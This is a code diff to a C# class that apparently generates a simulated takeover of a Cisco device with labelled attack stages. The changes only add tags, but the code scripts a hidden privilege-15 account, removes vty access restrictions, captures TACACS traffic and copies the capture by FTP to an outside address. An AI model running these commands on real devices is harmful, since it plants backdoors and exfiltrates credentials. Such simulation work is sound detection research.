@@ -159,7 +159,7 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
         session.Configure(account, $"username {Craft.LocalAccount} privilege 15 secret 9 {Secret}");
         ShapedLine saved = SnapshotShapes.Username.With(Craft.LocalAccount, Secret);
         Archive.Add(session.Now, Cast.Edge, [saved], Mark(StageIds.Foothold, "T30"));
-        session.Begin().Statement("line vty 0 4").Statement($"no access-class {Craft.AccessClass} in", access);
+        session.Begin().Statement("line vty 0 4", "~T38").Statement($"no access-class {Craft.AccessClass} in", access);
         DateTime opened = session.Now;
         Session second = new(
             Scene,
@@ -202,7 +202,7 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
         session.Close();
         foreach (string command in commands)
         {
-            reading.Command(command, recon);
+            reading.Command(command, command == "show running-config" ? [.. recon, "~T23"] : recon);
         }
 
         bool tftp = Carrier.Seed == 0 || Carrier.Seed % 3 != 1;
@@ -237,12 +237,12 @@ internal sealed class Takeover(Scene scene, TruthRecorder truth, ConfigurationAr
         );
         string name = Craft.CaptureName;
         string[] proves = ["T60", "S3"];
-        session.Command($"monitor capture {name} interface {Craft.CaptureInterface} both", "S3");
+        session.Command($"monitor capture {name} interface {Craft.CaptureInterface} both", "~T60", "S3");
         session.Command($"monitor capture {name} match ipv4 protocol tcp any any eq 49", proves);
-        session.Command($"monitor capture {name} start", "S3");
+        session.Command($"monitor capture {name} start", "~T60", "S3");
         session.Log(IosShapes.Capture.With("ENABLE", name, "enabled"), "~T60", "S3");
         session.Wait(2400);
-        session.Command($"monitor capture {name} stop", "S3");
+        session.Command($"monitor capture {name} stop", "~T60", "S3");
         session.Log(IosShapes.Capture.With("DISABLE", name, "disabled"), "~T60", "S3");
         session.Command($"monitor capture {name} export bootflash:{Craft.CaptureFile}", "~T60", "S3");
         session.Command($"copy bootflash:{Craft.CaptureFile} ftp://{Craft.WebAddress}/", "T74", "S3");
